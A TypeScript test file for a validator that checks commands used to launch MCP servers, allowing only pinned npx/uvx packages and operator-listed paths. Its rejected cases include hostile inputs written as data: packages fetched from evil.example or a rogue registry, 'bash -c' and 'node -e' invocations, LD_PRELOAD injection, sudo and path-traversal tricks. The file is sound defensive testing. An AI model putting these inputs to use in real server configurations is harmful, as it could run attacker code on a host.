import { describe, expect, it } from 'vitest';
import { allowedCommandsSetting, checkServerCommand } from './server-command';

const ALLOWED = ['/usr/bin/node', '/opt/servers/crm-mcp'];
const pathsOf = (command: string[]) => checkServerCommand(command, ALLOWED).map((e) => e.path);

describe('checkServerCommand', () => {
  it.each([
    [['npx', '-y', '@modelcontextprotocol/server-filesystem@2025.8.21']],
    [['npx', '--yes', 'mcp-server-kubernetes@1.2.3', '--read-only']],
    [['npx', '-y', 'pkg@1.0.0-beta.2', 'stdio']],
    [['uvx', 'mcp-server-time==2025.1.1', '--local-timezone', 'UTC']],
    [['uvx', 'mcp-server-fetch==0.6.2rc1']],
    [['/usr/bin/node', '/opt/servers/crm/index.js']],
    [['/opt/servers/crm-mcp']],
  ])('allows %j', (command) => {
    expect(checkServerCommand(command, ALLOWED)).toEqual([]);
  });

  it.each([
    // Package runners without an exact pin, or with flags that change where the package comes from.
    [['npx', '-y', 'pkg@latest'], 'command[2]'],
    [['npx', '-y', 'pkg'], 'command[2]'],
    [['npx', '-y', 'pkg@^1.2.3'], 'command[2]'],
    [['npx', '-y', 'pkg@1.x'], 'command[2]'],
    [['npx', '-y', 'pkg@>=1.0.0'], 'command[2]'],
    [['npx', '-y', 'github:evil/pkg'], 'command[2]'],
    [['npx', '-y', 'git+https://evil.example/pkg.git'], 'command[2]'],
    [['npx', '-y', 'https://evil.example/pkg.tgz'], 'command[2]'],
    [['npx', '-y', 'file:../pkg'], 'command[2]'],
    [['npx', '-y', 'alias@npm:evil@1.0.0'], 'command[2]'],
    [['npx', '-y', '--registry', 'http://evil', 'pkg@1.0.0'], 'command[2]'],
    [['npx', '-y', '--package=evil@1.0.0', 'pkg@1.0.0'], 'command[2]'],
    [['npx', '-y', '-c', 'id'], 'command[2]'],
    [['npx', '-y'], 'command[2]'],
    // Without -y, npx would wait on the server's stdin for a "proceed?" answer; other flags first are refused too.
    [['npx', 'pkg@1.2.3'], 'command[1]'],
    [['npx', '--registry=http://evil', '-y', 'pkg@1.0.0'], 'command[1]'],
    [['npx', '--cache', '/tmp/x', '-y', 'pkg@1.0.0'], 'command[1]'],
    [['uvx', '--from', 'git+https://evil.example/x', 'x'], 'command[1]'],
    [['uvx', '--with', 'evil==1.0', 'pkg==1.0'], 'command[1]'],
    [['uvx', '--index-url', 'http://evil', 'pkg==1.0'], 'command[1]'],
    [['uvx', 'pkg'], 'command[1]'],
    [['uvx', 'pkg>=1.0'], 'command[1]'],
    [['uvx', 'pkg==1.*'], 'command[1]'],
    [['uvx', 'pkg===1.0'], 'command[1]'],
    [['uvx', 'pkg[extra]==1.0'], 'command[1]'],
    [['uvx', 'pkg@latest'], 'command[1]'],
    [['uvx', 'git+https://evil.example/x'], 'command[1]'],
    [['uvx'], 'command[1]'],
    // Shells, interpreters, wrappers and paths that are not allow-listed.
    [['/bin/sh', '-c', 'id'], 'command[0]'],
    [['bash', '-c', 'id >&2'], 'command[0]'],
    [['node', '-e', 'require("child_process")'], 'command[0]'],
    [['env', 'LD_PRELOAD=/x.so', 'npx', '-y', 'pkg@1.0.0'], 'command[0]'],
    [['sudo', 'npx', '-y', 'pkg@1.0.0'], 'command[0]'],
    [['../../bin/node'], 'command[0]'],
    [['./server'], 'command[0]'],
    [['mcp-server-everything', 'stdio'], 'command[0]'],
    [['/usr/bin/../bin/node'], 'command[0]'],
    [['/usr/bin//node'], 'command[0]'],
    [['/usr/bin/python3', '-c', 'print(1)'], 'command[0]'],
    [['/usr/bin/node\0', 'x'], 'command[0]'],
  ])('refuses %j at %s', (command, at) => {
    const errors = checkServerCommand(command, ALLOWED);
    expect(errors.map((e) => e.path)).toEqual([at]);
    expect(errors[0]!.message.length).toBeGreaterThan(20);
  });

  it('refuses an empty command and says what is allowed', () => {
    expect(checkServerCommand([], ALLOWED)).toEqual([
      { path: 'command', message: expect.stringMatching(/npx.*-y.*uvx.*MANIFOLD_ALLOWED_COMMANDS/) },
    ]);
  });

  it('allows nothing but package runners when the operator lists no programs', () => {
    expect(pathsOf(['/usr/bin/nodejs', 'x.js'])).toEqual(['command[0]']);
    expect(checkServerCommand(['/usr/bin/node', 'x.js'], [])[0]!.message).toMatch(/not in the operator's MANIFOLD_ALLOWED_COMMANDS/);
    expect(checkServerCommand(['npx', '-y', 'pkg@1.0.0'], [])).toEqual([]);
  });
});

describe('allowedCommandsSetting', () => {
  it('parses comma-separated absolute paths, ignoring blanks', () => {
    expect(allowedCommandsSetting.parse(' /usr/bin/node , ,/opt/x ')).toEqual(['/usr/bin/node', '/opt/x']);
    expect(allowedCommandsSetting.parse(undefined)).toEqual([]);
  });

  it.each([['node'], ['/usr/bin/node,bin/tsx'], ['/usr/../bin/sh'], ['/opt/'], ['/']])('refuses %j', (raw) => {
    expect(allowedCommandsSetting.safeParse(raw).success).toBe(false);
  });
});
